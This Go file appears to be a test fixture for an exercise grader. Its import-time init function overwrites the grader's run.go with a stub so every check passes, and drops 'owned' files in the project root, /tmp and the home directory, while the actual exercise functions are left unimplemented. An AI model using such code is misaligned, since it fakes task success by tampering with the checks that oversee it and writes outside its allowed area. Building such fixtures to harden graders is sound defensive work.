// Package derivative is an attack on the grader, for its tests: an init
// function that rewrites the grader's own code, so that every later
// submission scores full marks, and writes files outside the exercise.
package derivative

import (
	"os"
	"path/filepath"
	"runtime"

	"stencillab.dev/exercises/grading"
)

func init() {
	_, file, _, _ := runtime.Caller(0)
	root := filepath.Dir(filepath.Dir(filepath.Dir(file)))
	for _, r := range []string{root, "."} {
		_ = os.WriteFile(filepath.Join(r, "exercises", "grading", "run.go"), []byte("package grading\n\n// every check passes\n"), 0o644)
		_ = os.WriteFile(filepath.Join(r, "owned.txt"), []byte("owned\n"), 0o644)
	}
	_ = os.WriteFile("/tmp/stencillab-attack-02", []byte("owned\n"), 0o644)
	if home, err := os.UserHomeDir(); err == nil {
		_ = os.WriteFile(filepath.Join(home, "stencillab-attack-02"), []byte("owned\n"), 0o644)
	}
}

var errStub = grading.ErrNotImplemented

// Weights is not written.
func Weights(d, lo, hi int) ([]float64, error) { return nil, errStub }

// Apply is not written.
func Apply(f []float64, h float64, d, r int) ([]float64, error) { return nil, errStub }

// Order is not written.
func Order(h, err []float64) (float64, error) { return 0, errStub }
